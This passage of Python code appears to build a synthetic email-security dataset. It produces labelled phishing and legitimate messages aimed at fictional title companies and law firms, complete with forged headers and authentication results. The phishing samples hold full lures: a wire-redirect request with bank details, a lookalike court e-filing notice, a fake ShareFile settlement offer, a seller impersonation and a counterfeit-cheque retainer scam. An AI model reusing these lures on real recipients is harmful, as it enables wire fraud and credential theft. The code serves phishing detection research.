               dmarc: str | None = "pass", cc: str | None = None, refs: str | None = None, extra=(), verdict=None,
               msgid: str | None = None, ctry: str = "US", extra_after=()) -> bytes:
    """A message written in Gmail (or a Workspace account) and delivered to the client."""
    dkim_d = dkim_d or mailfrom.split("@")[1]
    selector = selector or ("20230601" if dkim_d == "gmail.com" else "google")
    sender = gmail_sender(r, t, dkim_d, selector)
    if c.provider == "g":
        n = r.num("sorn", 41, 73)
        helo, ip, gt = f"mail-sor-f{n}.google.com", f"209.85.220.{n}", True
    else:
        (helo, ip), gt = google_out_host(r), False
    headers = ["MIME-Version: 1.0"]
    if refs:
        headers += [f"References: {refs}", f"In-Reply-To: {refs.split()[-1]}"]
    headers += [f"From: {from_hdr}", f"Date: {rfc(t, tz)}", f"Message-ID: {msgid or gmail_msgid(r)}",
                f"Subject: {subject}", f"To: {to_hdr}"]
    if cc:
        headers.append(f"Cc: {cc}")
    headers += list(extra)
    a = AU(mailfrom, ip, "pass", [(dkim_d, selector, "pass")], dmarc, policy, from_dom=from_hdr.rsplit("@", 1)[1].rstrip(">"))
    return deliver(r, c, rcpt, t + timedelta(seconds=2), helo, ip, a, sender, headers + list(extra_after), body,
                   verdict=verdict, gt=gt, ctry=ctry)


def send_exo(r: R, c: Client, rcpt: str, t: datetime, from_addr: str, from_hdr: str, to_hdr: str, subject: str, body,
             tz: str, region: str = "nam", has_attach: bool = False, dkim_d: str | None = None, selector: str = "selector1",
             policy: str = "p=NONE sp=NONE dis=NONE", dmarc: str | None = "pass", cc: str | None = None,
             refs: str | None = None, thread_topic: str | None = None, lang: str = "en-US", verdict=None, extra=(),
             compauth=None, ctry: str = "US", top_extra=()) -> bytes:
    """A message written in Outlook on another Microsoft 365 tenant and delivered to the client."""
    dom = from_addr.split("@")[1]
    dkim_d = dkim_d or dom
    aligned = dkim_d == dom or dkim_d.endswith("." + dom)
    arc = (f"spf=pass smtp.mailfrom={dom}; dmarc={'pass' if dmarc == 'pass' else 'none'} action=none header.from={dom}; "
           + (f"dkim=pass header.d={dom}; " if aligned else "dkim=none (message not signed); ") + "arc=none")
    topic = thread_topic if thread_topic is not None else subject.split(": ", 1)[-1] if subject[:4] in ("RE: ", "FW: ") else subject
    transport, fields, helo, ip, msgid = exo_sender(r, t, dom, region, has_attach, dkim_d, selector, lang, topic, arc, refs)
    headers = [f"From: {from_hdr}", f"To: {to_hdr}"] + ([f"CC: {cc}"] if cc else []) + [f"Subject: {subject}"]
    headers += xf(fields, t, tz) + list(extra)
    a = AU(from_addr, ip, "pass", [(dkim_d, selector, "pass")], dmarc, policy, from_dom=dom, compauth=compauth)
    return deliver(r, c, rcpt, t + timedelta(seconds=2), helo, ip, a, list(top_extra) + transport, headers, body,
                   verdict=verdict, ms_arc=True, ctry=ctry,
                   rdns=f"mail-{helo.split('-')[1].lower()}{helo.split('-')[0].lower()}on2{r.num('on2', 100, 999)}.outbound.protection.outlook.com")


def gsig(name: str, *lines: str) -> str:
    rest = "".join(f"<div>{ln}</div>" for ln in lines)
    return f"<div><b>{name}</b></div>{rest}"


@sample
def wire_compromised_agent():
    kind, slug = "phish", "wire-compromised-agent-mailbox-summit"
    r = S(kind, slug)
    c = CLIENTS["summit"]
    t = T(2025, 6, 10, 16, 47, 12)
    rcpt = "atran@summitcresttitle.com"
    sig = gsig("Brooke Lindgren", "REALTOR® | Trailhead Homes Idaho", "(208) 608-4471",
               '<a href="https://www.trailheadhomesid.com">trailheadhomesid.com</a>',
               '<span style="font-size:11px;color:#888">Licensed in the State of Idaho</span>')
    paras = ["Hi Amy,", "",
             "Quick change on 2207 N Fenwick Ct (your file SCT-25-00944, closing Friday). My sellers Ray and Linda Garcia are "
             "relocating to Arizona and closed their Idaho Central account last week, so they need their proceeds wired to their new "
             "credit union account instead:", "",
             "Desert Financial Credit Union", "Routing: 322172357", "Account: 0041872266", "Account name: Raymond Garcia", "",
             "They'll sign the disbursement authorization at signing, but can you update the file now so nothing holds up funding? "
             "They're driving down with the moving truck this week so email is easiest, they won't be able to take calls until Friday.",
             "", "Please confirm once it's updated. Thanks so much!", ""]
    q = gq("On Mon, Jun 9, 2025 at 3:02 PM Amy Tran &lt;<a href=\"mailto:atran@summitcresttitle.com\">atran@summitcresttitle.com</a>&gt; wrote:",
           ["Hi Brooke,", "", "Seller docs for 2207 N Fenwick are drafted, signing is set for Friday 6/13 at 10:00 at our Main St office. "
            "Seller net is estimated at $212,480.17; the final statement will follow Thursday.", "",
            "Amy Tran | Closer | Summit Crest Title &amp; Escrow | (208) 342-7741"])
    body = gmail_alt(r, paras, sig, q)
    data = send_gmail(r, c, rcpt, t, "brooke@trailheadhomesid.com", "Brooke Lindgren <brooke@trailheadhomesid.com>",
                      "Amy Tran <atran@summitcresttitle.com>", "Re: 2207 N Fenwick Ct - seller signing Friday", body,
                      "America/Boise", refs=f"<{c.key}{r.hex('ref', 20, True)}@{exo_hosts(r, 'nam', 'ref')['mbx']}>")
    return done("phishing", kind, slug,
                "Reply from a real listing agent's hijacked Google Workspace mailbox (all authentication passes) asking the "
                "closer to redirect seller proceeds to a 'new credit union account' and to confirm by email only; no link.",
                data)


@sample
def court_efiling_lookalike():
    kind, slug = "phish", "court-efiling-lookalike-whitcombe"
    r = S(kind, slug)
    c = CLIENTS["whitcombe"]
    t = T(2025, 2, 19, 15, 31, 40)
    rcpt = "pnatarajan@whitcombereyes.com"
    dom = "ccefiling-notice.com"
    tid = r.hex("tid", 8, True)
    url = f"https://cce-filingviewer.pages.dev/viewer?tid={tid}&amp;case=2025CV31874&amp;u={base64.b64encode(rcpt.encode()).decode()}"
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"><title>Colorado Courts E-Filing</title></head>
<body style="margin:0;padding:0;background:#f2f2f2;font-family:Arial,Helvetica,sans-serif">
<table width="100%" cellpadding="0" cellspacing="0" bgcolor="#f2f2f2"><tr><td align="center" style="padding:20px 0">
<table width="620" cellpadding="0" cellspacing="0" style="background:#ffffff;border:1px solid #d0d0d0">
<tr><td style="background:#003865;padding:16px 24px;color:#ffffff;font-size:20px;font-weight:bold">Colorado Courts E-Filing</td></tr>
<tr><td style="padding:24px;font-size:14px;color:#222222;line-height:20px">
<p style="margin-top:0"><b>NOTICE OF ELECTRONIC FILING AND SERVICE</b></p>
<p>The following document(s) were filed and served on you through Colorado Courts E-Filing. You are listed as counsel of record for a party in this case.</p>
<table cellpadding="4" cellspacing="0" style="font-size:13px;border-collapse:collapse" width="100%">
<tr><td width="38%" style="border-bottom:1px solid #eee"><b>Court Location:</b></td><td style="border-bottom:1px solid #eee">Denver County District Court, 2nd Judicial District</td></tr>
<tr><td style="border-bottom:1px solid #eee"><b>Case Number:</b></td><td style="border-bottom:1px solid #eee">2025CV31874</td></tr>
<tr><td style="border-bottom:1px solid #eee"><b>Case Caption:</b></td><td style="border-bottom:1px solid #eee">Brennan, Colleen v. Aurora Freight Solutions Inc</td></tr>
<tr><td style="border-bottom:1px solid #eee"><b>Transaction ID:</b></td><td style="border-bottom:1px solid #eee">{tid}</td></tr>
<tr><td style="border-bottom:1px solid #eee"><b>Document Title:</b></td><td style="border-bottom:1px solid #eee">Motion for Sanctions and Request for Forthwith Hearing</td></tr>
<tr><td style="border-bottom:1px solid #eee"><b>Filing Party:</b></td><td style="border-bottom:1px solid #eee">Plaintiff</td></tr>
<tr><td><b>Served On:</b></td><td>Priya Natarajan (Whitcombe Reyes LLP)</td></tr>
</table>
<p>A response may be due within 7 days of service. Documents remain available through this notice for 72 hours.</p>
<p style="text-align:center;padding:10px 0"><a href="{url}" style="background:#00629b;color:#ffffff;padding:12px 28px;text-decoration:none;font-weight:bold;border-radius:3px">View Filed Documents</a></p>
<p style="font-size:12px;color:#666666">This is an automated message from Colorado Courts E-Filing. Please do not reply to this email. For assistance contact the E-Filing Support Center.</p>
</td></tr></table></td></tr></table></body></html>
"""
    body = Multi("alternative", f"----=_Part_{r.num('p1', 100000, 999999)}_{r.num('p2', 100000000, 999999999)}.{int(t.timestamp() * 1000)}",
                 [text(strip_tags(html).replace("View Filed Documents", f"View Filed Documents: {url.replace('&amp;', '&')}")), text(html, "html")])
    host = f"mail.{dom}"
    cip = "185.244.181.37"
    sender = postfix_lines(r, t, host, cip, rcpt, dom, "mail", auth_user=f"notifications@{dom}")
    headers = [f"Date: {rfc(t, 'America/Denver')}", f"From: Colorado Courts E-Filing <notifications@{dom}>",
               f"To: {rcpt}", "Subject: Notice of Electronic Filing - 2025CV31874 - Motion for Sanctions",
               f"Message-ID: <{r.hex('m', 32)}@{dom}>", "X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)",
               "MIME-Version: 1.0"]
    ip = "194.87.31.118"
    a = AU(f"notifications@{dom}", ip, "pass", [(dom, "mail", "pass")], "pass", from_dom=dom)
    data = deliver(r, c, rcpt, t + timedelta(seconds=3), host, ip, a, sender, headers, body, ctry="NL")
    return done("phishing", kind, slug,
                "Colorado Courts E-Filing lookalike from a registered domain (SPF/DKIM/DMARC pass) serving a 'motion for sanctions' "
                "on the associate, linking to a Cloudflare Pages viewer with her address encoded in the URL.",
                data)


@sample
def settlement_sharefile_lookalike():
    kind, slug = "phish", "part36-offer-sharefile-lookalike-ashdown"
    r = S(kind, slug)
    c = CLIENTS["ashdown"]
    t = T(2024, 9, 24, 10, 6, 51)
    rcpt = "helen.ashdown@ashdownpryce.co.uk"
    dom = "harringtongale-law.co.uk"
    link = f"https://harringtongale.sharefile-docs.co.uk/d-s{r.hex('sf', 17)}"
    paras = ["Dear Ms Ashdown,", "",
             "<b>Fowler v Kinsey Logistics Ltd &#8211; Claim No. K10BS412</b>", "",
             "Further to recent correspondence, please find our client's offer made pursuant to CPR Part 36, together with the "
             "supporting schedule, available through our secure document portal below. Given the size of the bundle we are unable to "
             "send it as an attachment.", "",
             f'<a href="{link}">Part 36 Offer &#8211; WPSATC &#8211; Fowler v Kinsey (4 documents)</a>', "",
             "The relevant period is 21 days from the date of service. We would be grateful if you could acknowledge receipt.", "",
             "Kind regards", "",
             '<b>Daniel Okonkwo</b>', '<span style="font-size:10.0pt;color:#44546A">Senior Associate, Dispute Resolution</span>',
             '<span style="font-size:10.0pt;color:#44546A">Harrington Gale LLP | 3 Temple Back East, Bristol BS1 6DX</span>',
             '<span style="font-size:10.0pt;color:#44546A">T: 0117 930 4418</span>', "",
             '<span style="font-size:7.5pt;color:gray">Harrington Gale LLP is authorised and regulated by the Solicitors Regulation Authority (SRA No. 618442). '
             'This email is confidential and may be legally privileged. If you have received it in error please notify the sender and delete it.</span>']
    body = outlook_msg(r, paras, lang="EN-GB")
    data = send_exo(r, c, rcpt, t, f"d.okonkwo@{dom}", f"Daniel Okonkwo <d.okonkwo@{dom}>",
                    "Helen Ashdown <helen.ashdown@ashdownpryce.co.uk>",
                    "WITHOUT PREJUDICE SAVE AS TO COSTS - Part 36 Offer - Fowler v Kinsey Logistics Ltd", body,
                    "Europe/London", region="gbr", dkim_d="harringtongalelaw.onmicrosoft.com",
                    selector="selector1-harringtongalelaw-onmicrosoft-com", dmarc=None, lang="en-GB",
                    compauth=("pass", "109"), ctry="GB")
    return done("phishing", kind, slug,
                "Opposing-counsel lookalike (harringtongale-law.co.uk on its own Microsoft 365 tenant) serving a Part 36 offer "
                "through a fake ShareFile subdomain on the attacker's domain, in the real case's name.",
                data)


@sample
def vacant_land_seller():
    kind, slug = "phish", "vacant-land-seller-impersonation-keystone"
    r = S(kind, slug)
    c = CLIENTS["keystone"]
    t = T(2025, 9, 3, 13, 22, 5)
    rcpt = "orders@keystonelandtitle.com"
    html = ('<html><head>\n<meta http-equiv="Content-Type" content="text/html; charset=utf-8">\n'
            '<style type="text/css" style="display:none;"> P {margin-top:0;margin-bottom:0;} </style>\n</head>\n<body dir="ltr">\n'
            + "".join(f'<div class="elementToProof" style="font-family: Aptos, Aptos_EmbeddedFont, Aptos_MSFontService, Calibri, Helvetica, sans-serif; font-size: 12pt; color: rgb(0, 0, 0);">{p or "<br>"}</div>\n'
                      for p in ["Good afternoon,", "",
                                "My name is Harold Becker and I am the owner of the vacant parcel on Old Route 22 in Lower Paxton Township "
                                "(Tax Parcel 35-071-112, approx. 12.4 acres). I inherited it from my late brother and would like to sell it.", "",
                                "I already have a buyer, a friend of the family, who has agreed to pay $318,000 cash. We would like to close "
                                "quickly, within 3 weeks if possible. I am currently living in Portugal and will not be able to travel back, so I "
                                "will need to sign with a mobile notary here or by remote online notarization.", "",
                                "Could you please open a title order and let me know what you need from me? I can send a copy of my passport "
                                "and the deed. Please communicate by email as the time difference makes phone calls difficult.", "",
                                "Thank you,", "Harold Becker"])
            + "</body>\n</html>\n")
    body = Multi("alternative", oboundary(r, "alt"), [text(strip_tags(html)), text(html, "html")])
    transport, fields, helo, ip, msgid = exo_sender(r, t, "outlook.com", "nam", False, "outlook.com", "selector1",
                                                    thread_topic="Sale of land - Old Route 22 parcel")
    headers = ["From: Harold Becker <harold.becker1951@outlook.com>", "To: \"orders@keystonelandtitle.com\" <orders@keystonelandtitle.com>",
               "Subject: Sale of land - Old Route 22 parcel"] + xf(fields, t, "Europe/Lisbon") + [
               f"X-TMN: [{r.b64('tmn', 30)[:40]}]", f"X-Microsoft-Original-Message-ID:\n {msgid}"]
    a = AU("harold.becker1951@outlook.com", ip, "pass", [("outlook.com", "selector1", "pass")], "pass",
           "p=NONE sp=QUARANTINE dis=NONE", from_dom="outlook.com")
    data = deliver(r, c, rcpt, t + timedelta(seconds=2), helo, ip, a, transport, headers, body, ms_arc=True,
                   rdns=f"mail-{helo.split('-')[1].lower()}{helo.split('-')[0].lower()}olkn2{r.num('on2', 100, 999)}.outbound.protection.outlook.com")
    return done("phishing", kind, slug,
                "Vacant-land seller impersonation: an overseas 'owner' on Outlook.com asks the title company to open a quick cash "
                "sale, sign remotely and talk by email only; nothing technical to catch, the fraud is the identity.",
                data)


@sample
def counterfeit_check_retainer():
    kind, slug = "phish", "collection-retainer-counterfeit-check-whitcombe"
    r = S(kind, slug)
    c = CLIENTS["whitcombe"]
    t = T(2024, 4, 2, 7, 18, 44)
    rcpt = "intake@whitcombereyes.com"
    paras = ["Dear Counsel,", "",
             "I am writing on behalf of Morimoto Seiki Co., Ltd., a manufacturer of CNC machining equipment based in Nagoya, Japan. "
             "We are seeking legal representation in Colorado regarding an outstanding receivable of US$487,500.00 owed to us by "
             "Front Range Precision Fabrication LLC of Englewood, CO, for equipment delivered in 2023.", "",
             "The customer has acknowledged the debt in writing but has not paid despite repeated requests. We believe a demand "
             "letter from a local law firm will resolve this without litigation. We are prepared to sign your engagement letter and "
             "agree to a contingency fee or retainer as you require.", "",
             "Kindly let me know if your firm handles commercial collections and whether you have any conflict with the above "
             "party, and I will forward the sales agreement, invoices and correspondence.", "",
             "Best regards,", "", "Kenji Morimoto", "Director, Overseas Sales", "Morimoto Seiki Co., Ltd.",
             "3-14-8 Meieki, Nakamura-ku, Nagoya 450-0002, Japan"]
    body = gmail_alt(r, paras)
    data = send_gmail(r, c, rcpt, t, "k.morimoto.mseiki@gmail.com", "Kenji Morimoto <k.morimoto.mseiki@gmail.com>",
                      rcpt, "Legal Representation Inquiry - Outstanding Receivable (Colorado)", body, "Asia/Tokyo", ctry="JP")
    return done("phishing", kind, slug,
                "Classic counterfeit-cheque retainer scam against law firms: a 'Japanese manufacturer' on Gmail asks the firm to "
                "collect a debt from a Colorado company; the 'debtor' will later pay with a fake cheque. No link or attachment.",
                data)


# =========================================================================== legitimate: title, legal

@sample
def legit_closing_instructions():
    kind, slug = "legit", "title-closing-instructions-call-to-verify-cedar"
    r = S(kind, slug)
    c = CLIENTS["cedar"]
    t = T(2024, 5, 14, 17, 3, 29)
    rcpt = "jake@cedarhollowrealty.com"
    certifid = f"https://app.certifid.com/wire-instructions/receive/{r.guid('cf')}"
    sig = ['<b><span style="color:#1F3864">Janelle Price</span></b>', '<span style="font-size:10.0pt;color:#595959">Escrow Officer | Summit Crest Title &amp; Escrow</span>',
           '<span style="font-size:10.0pt;color:#595959">1020 W Main St, Suite 300 | Boise, ID 83702</span>',
           '<span style="font-size:10.0pt;color:#595959">O: (208) 342-7710 | D: (208) 342-7734</span>',
           '<i><span style="font-size:8.0pt;color:#C00000">WIRE FRAUD ALERT: Summit Crest Title will never change wiring instructions via email. Please call to verify.</span></i>']
    paras = ["Hi Jake,", "",
             "We're all set for the Ostrander purchase of 5127 N Harvest Moon Way, closing Thursday 5/16 at 2:00 PM at our Main St office. "
             "Attached is the buyers' estimated settlement statement (cash to close $61,904.22, subject to final lender figures).", "",
             "<b>Wiring funds:</b> the buyers will receive our wire instructions through CertifID, not by email. They'll get a text and "
             "an email from CertifID asking them to verify their identity before the instructions are shown. If they'd rather bring a "
             "cashier's check for the full amount, that's fine too.", "",
             "<b>Before they send anything, please have them call our office at (208) 342-7710</b> &#8211; the number on our website "
             "and on your purchase contract, not a number from an email &#8211; to confirm the instructions verbally with me or Amy. "
             "Our instructions have not changed in 11 years and will not change.", "",
             f'CertifID portal, for your reference: <a href="{certifid}">{certifid}</a>', "",
             "Let me know if the lender sends anything through to you first.", "", "Thanks,", ""] + sig
    alt_part = outlook_msg(r, paras)
    pdf = text_pdf(["SUMMIT CREST TITLE & ESCROW", "ESTIMATED BUYER'S SETTLEMENT STATEMENT", "",
                    "File No.: SCT-24-01302        Closing Date: 05/16/2024", "Property: 5127 N Harvest Moon Way, Meridian, ID 83646",
                    "Buyer(s): Evan & Priya Ostrander        Seller(s): Marcia L. Dwyer", "",
                    "Purchase price ................................ 489,000.00",
                    "Earnest money deposit ........................ (10,000.00)", "New loan - Gem State Mortgage ........... (415,650.00)",
                    "Title/escrow fees .................................. 1,812.00", "Recording fees ......................................... 92.00",
                    "Prepaids / escrows ................................ 4,118.06", "Prorations .................................... (7,467.84)", "",
                    "Estimated cash to close .......................... 61,904.22", "",
                    "Wire instructions are provided only through CertifID. Call (208) 342-7710 to verify before wiring."],
                   "Estimated Settlement Statement SCT-24-01302", "SoftPro Select 4.6", date="D:20240514105812-06'00'")
    body = Multi("mixed", oboundary(r, "mix", "004"),
                 [alt_part, attachment("application/pdf", "Est Settlement Statement - Buyer - SCT-24-01302.pdf", pdf)])
    data = send_exo(r, c, rcpt, t, "jprice@summitcresttitle.com", "Janelle Price <jprice@summitcresttitle.com>",
                    "Jake Whitlock <jake@cedarhollowrealty.com>", "5127 N Harvest Moon Way - closing 5/16 - settlement statement + wiring",
                    body, "America/Boise", has_attach=True, policy="p=QUARANTINE sp=QUARANTINE dis=NONE",
                    cc="Amy Tran <atran@summitcresttitle.com>")
    return done("clean", kind, slug,
                "The title company's real escrow officer, from its own DMARC-enforced domain, sends the settlement statement and says "
                "wire instructions come only through CertifID and must be verified by phone at a known number.",
                data)


@sample
def legit_docusign_client():
    kind, slug = "bulk", "docusign-engagement-letter-client-whitcombe"
    r = S(kind, slug)
    c = CLIENTS["whitcombe"]
    t = T(2025, 1, 8, 18, 44, 3)
    rcpt = "lwhitcombe@whitcombereyes.com"
    env = r.guid("env")
    acct = r.guid("acct")
    er = r.guid("er")
    link = f"https://na4.docusign.net/Signing/EmailStart.aspx?a={env}&amp;etti=24&amp;acct={acct}&amp;er={er}"
    html = f"""<!DOCTYPE html><html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"><meta name="viewport" content="initial-scale=1.0"></head>
<body style="padding:0;margin:0;background-color:#EAEAEA"><table role="presentation" width="100%" cellspacing="0" cellpadding="0" style="background-color:#EAEAEA"><tr><td style="padding:24px 0">
<table role="presentation" align="center" width="640" cellspacing="0" cellpadding="0" style="background-color:#ffffff;font-family:Helvetica,Arial,sans-serif">
<tr><td style="padding:10px 24px"><img src="https://na4.docusign.net/Signing/Images/email/Email_Logo.png" alt="Docusign" width="116" height="34" style="border:none"></td></tr>
<tr><td style="padding:0 24px 30px 24px"><table role="presentation" width="100%" style="background-color:#1E4CA1;color:#ffffff" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:28px 24px;font-size:16px;line-height:24px">
<img src="https://na4.docusign.net/member/Images/email/docInvite-white.png" width="75" height="75" alt=""><br>Tom Driscoll sent you a document to review and sign.<br><br>
<a href="{link}" style="font-size:15px;color:#333333;background-color:#FFC423;font-weight:bold;text-decoration:none;border-radius:2px;padding:10px 22px;display:inline-block">REVIEW DOCUMENT</a></td></tr></table></td></tr>
<tr><td style="padding:0 24px 24px 24px;color:#000000;font-size:16px"><b>Tom Driscoll</b><br><span style="color:#666666;font-size:15px"><a href="mailto:tdriscoll@frontrangeaggregates.com" style="color:#2463D1">tdriscoll@frontrangeaggregates.com</a></span><br><br>
Lauren &#8211; signed engagement letter for the Castle Rock quarry permit matter attached for your countersignature. Thanks for turning the redline around so quickly.<br><br>Tom</td></tr>
<tr><td style="padding:0 24px 12px 24px;background-color:#ffffff;font-size:11px;color:#666666;line-height:18px"><b>Do Not Share This Email</b><br>
This email contains a secure link to Docusign. Please do not share this email, link, or access code with others.<br><br><b>Alternate Signing Method</b><br>
Visit Docusign.com, click 'Access Documents', and enter the security code:<br>{r.hex('sec', 32, True)}4<br><br>
<b>About Docusign</b><br>Sign documents electronically in just minutes. It's safe, secure, and legally binding. Whether you're in an office, at home, on-the-go -- or even across the globe -- Docusign provides a professional trusted solution for Digital Transaction Management&#8482;.<br><br>
<b>Questions about the Document?</b><br>If you need to modify the document or have questions about the details in the document, please reach out to the sender by emailing them directly.<br><br>
<b>Stop receiving this email</b><br><a href="https://protect.docusign.net/report-abuse?e=AUtomjpF{r.b64url('ra', 60)}&amp;lang=en" style="color:#2463D1">Report this email</a> or read more about <a href="https://support.docusign.com/s/document-item?bundleId=gbo1643332197980&amp;topicId=nko1578456493049.html" style="color:#2463D1">Declining to sign</a> and <a href="https://support.docusign.com/s/articles/How-do-I-manage-my-email-notifications" style="color:#2463D1">Managing notifications</a>.<br><br>
If you have trouble signing, visit "<a href="https://support.docusign.com/s/articles/How-do-I-sign-a-DocuSign-document-Basic-Signing?language=en_US" style="color:#2463D1">How to Sign a Document</a>" on our <a href="https://www.docusign.com/support" style="color:#2463D1">Docusign Support Center</a>, or browse our <a href="https://community.docusign.com/signing-7" style="color:#2463D1">Docusign Community</a> for more information.<br><br>
This message was sent to you by Tom Driscoll who is using the Docusign Electronic Signature Service. If you would rather not receive email from this sender you may contact the sender with your request.</td></tr>
</table></td></tr></table></body></html>
"""
    body = Multi("alternative", f"----=_NextPart_{r.hex('b', 8)}_{r.hex('b2', 4)}_{r.hex('b3', 4)}_{r.hex('b4', 4)}_{r.hex('b5', 12)}",
                 [text(strip_tags(html).replace("REVIEW DOCUMENT", f"REVIEW DOCUMENT: {link.replace('&amp;', '&')}"), encoding="quoted-printable"),
                  text(html, "html")])
    ip = f"64.207.219.{r.num('dsip', 70, 140)}"
    helo = "mailsea.docusign.net"
    sender = [dkim(r, "docusign.net", "mail2", "Content-Type:Date:From:MIME-Version:Message-ID:Reply-To:Subject:To", t, "generic"),
              f"Received: from docusign.net (10.13.{r.num('i1', 1, 250)}.{r.num('i2', 1, 250)}) by mailsea.docusign.net id {r.hex('dsid', 10)} for <{rcpt}>; {format_datetime(t.astimezone(ZoneInfo('America/Los_Angeles')))}"]
    headers = [f"Message-ID: <{r.hex('mid', 32)}@docusign.net>", f"Date: {format_datetime(t.astimezone(ZoneInfo('America/Los_Angeles')))}",
               "From: Tom Driscoll via Docusign <dse_NA4@docusign.net>", "Reply-To: Tom Driscoll <tdriscoll@frontrangeaggregates.com>",
               f"To: Lauren Whitcombe <{rcpt}>", "Subject: Complete with Docusign: Whitcombe Reyes - Engagement Letter - Castle Rock Permit.pdf",
               "MIME-Version: 1.0", f"X-DocuSign-EnvelopeId: {env}", "X-API-Host: na4.docusign.net", "X-DocuSign-Email-Type: EnvelopeActivation"]
    a = AU("dse_NA4@docusign.net", ip, "pass", [("docusign.net", "mail2", "pass")], "pass", "p=REJECT sp=REJECT dis=NONE",
           from_dom="docusign.net")
    data = deliver(r, c, rcpt, t + timedelta(seconds=4), helo, ip, a, sender, headers, body, verdict=dict(bcl=3), ptr=helo)
    return done("bulk", kind, slug,
                "Genuine DocuSign envelope from docusign.net (DMARC reject passes) sent by the firm's corporate client, with the "
                "client's own note, a na4.docusign.net signing link and the standard footer.",
                data)


@sample
def legit_cmecf_notice():
    kind, slug = "bulk", "cmecf-notice-of-electronic-filing-whitcombe"
    r = S(kind, slug)
    c = CLIENTS["whitcombe"]
    t = T(2025, 3, 11, 20, 14, 37)
    rcpt = "docketing@whitcombereyes.com"
    caseid = r.num("caseid", 220000, 229999)
    doc = f"https://ecf.cod.uscourts.gov/doc1/039{r.num('doc', 10000000, 99999999)}?caseid={caseid}&amp;de_seq_num={r.num('seq', 100, 300)}&amp;magic_num={r.num('magic', 10000000, 99999999)}"
    html = f"""<p><strong>This is an automatic e-mail message generated by the CM/ECF system. Please DO NOT RESPOND to this e-mail because the mail box is unattended. </strong><br><strong>***NOTE TO PUBLIC ACCESS USERS*** Judicial Conference of the United States policy permits attorneys of record and parties in a case (including pro se litigants) to receive one free electronic copy of all documents filed electronically, if receipt is required by law or directed by the filer. PACER access fees apply to all other users. To avoid later charges, download a copy of each document during this first viewing. However, if the referenced document is a transcript, the free copy and 30 page limit do not apply.</strong></p>
<p align="center"><strong>U.S. District Court - District of Colorado</strong></p>
<div><p align="center"><strong>District of Colorado</strong></p></div>
<p><strong>Notice of Electronic Filing </strong></p>
<div><p>The following transaction was entered by Natarajan, Priya on 3/11/2025 at 2:14 PM MDT and filed on 3/11/2025 </p>
<table border="0" cellspacing="0"><tbody>
<tr><td><strong>Case Name:</strong> </td><td>Brennan v. Aurora Freight Solutions, Inc.</td></tr>
<tr><td><strong>Case Number:</strong></td><td><a href="https://ecf.cod.uscourts.gov/cgi-bin/DktRpt.pl?{caseid}" target="_blank" rel="noopener">1:24-cv-02817-RMR-KAS</a></td></tr>
<tr><td><strong>Filer:</strong></td><td>Aurora Freight Solutions, Inc.</td></tr>
<tr><td><strong>Document Number:</strong></td><td><a href="{doc}" target="_blank" rel="noopener">41</a> </td></tr></tbody></table>
<p><strong>Docket Text:</strong><br><strong>Unopposed MOTION for Extension of Time to File Response/Reply as to [38] MOTION to Compel Discovery by Defendant Aurora Freight Solutions, Inc.. (Attachments: # (1) Proposed Order (PDF Only))(Natarajan, Priya)</strong></p>
<p><strong>1:24-cv-02817-RMR-KAS Notice has been electronically mailed to:</strong><br><br>Priya Natarajan &nbsp;&nbsp; pnatarajan@whitcombereyes.com, docketing@whitcombereyes.com<br><br>Lauren M. Whitcombe &nbsp;&nbsp; lwhitcombe@whitcombereyes.com, docketing@whitcombereyes.com<br><br>Sean Patrick McGreevy &nbsp;&nbsp; smcgreevy@mcgreevylawco.com, paralegal@mcgreevylawco.com<br><br></p>
<p><strong>1:24-cv-02817-RMR-KAS Notice has been mailed by the filer to:</strong></p>
<p>The following document(s) are associated with this transaction:</p>
<table><tbody><tr><td><strong>Document description:</strong>Main Document </td></tr><tr><td><strong>Original filename:</strong>C:\\fakepath\\2025.03.11 Unopposed Mot for Ext - Resp to Mot to Compel.pdf </td></tr>
<tr><td><strong>Electronic document Stamp:</strong> </td></tr><tr><td>[STAMP dcecfStamp_ID=1071006763 [Date=3/11/2025] [FileNumber={r.num('fn', 10000000, 99999999)}-0] [{r.hex('stamp', 128)}]]</td></tr></tbody></table></div>
"""
    body = text(html, "html")
    ip = f"199.107.16.{r.num('ip', 200, 210)}"
    helo = f"icmecf10{r.num('h', 1, 4)}.gtwy.uscourts.gov"
    sender = [f"Received: from cod.uscourts.gov ([156.119.{r.num('i3', 60, 62)}.{r.num('i4', 10, 90)}])\n  by {helo} with ESMTP; {format_datetime(t.astimezone(ZoneInfo('America/New_York')))}",
              f"Received: from cod.uscourts.gov (localhost [127.0.0.1])\n\tby cod.uscourts.gov (8.14.4/8.14.4) with ESMTP id 52BKEZ{r.num('sm', 10000, 99999)}\n\tfor <{rcpt}>; {format_datetime(t.astimezone(ZoneInfo('America/Denver')))}"]
    headers = [f"Date: {format_datetime(t.astimezone(ZoneInfo('America/Denver')))}",
               f"Message-Id: <{r.num('mid', 10000000, 99999999)}@cod.uscourts.gov>", "From: COD_ENotice@cod.uscourts.gov",
               "To: COD_ENotice@cod.uscourts.gov", "Subject: Activity in Case 1:24-cv-02817-RMR-KAS Brennan v. Aurora Freight Solutions, Inc. Motion for Extension of Time to File Response/Reply",
               "Content-Disposition: inline", "MIME-Version: 1.0"]
    a = AU("COD_ENotice@cod.uscourts.gov", ip, "pass", [], "pass", "p=REJECT sp=REJECT dis=NONE", from_dom="cod.uscourts.gov")
    data = deliver(r, c, rcpt, t + timedelta(seconds=6), helo, ip, a, sender, headers, body, ptr=helo)
    return done("bulk", kind, slug,
                "Real CM/ECF Notice of Electronic Filing from cod.uscourts.gov through the courts' gateway, in the NEF's HTML with "
                "its docket and doc1 links, for a motion the firm itself filed.",
                data)


@sample
def legit_internal_ashdown():
    kind, slug = "legit", "internal-draft-witness-statement-ashdown"
    r = S(kind, slug)
    c = CLIENTS["ashdown"]
    t = T(2024, 9, 25, 8, 52, 18)
    rcpt = "helen.ashdown@ashdownpryce.co.uk"
    top, bottom = exo_internal(r, c, t)
    paras = ["Helen,", "",
             "Attached is my first draft of Mr Fowler's witness statement for your review. I've followed the order of events in his "
             "attendance note of 12 September and left comments where his recollection of the dates doesn't match the delivery logs.", "",
             "Also, re the Part 36 offer email we had yesterday from 'Harrington Gale' &#8211; I checked with Jo and it didn't come from "
             "Daniel's usual address (their domain is harringtongale.co.uk, not harringtongale-law.co.uk). I've reported it to IT and "
             "haven't clicked anything. I'll call Daniel this morning to see if they actually sent an offer.", "",
             "Thanks,", "Amira", "",
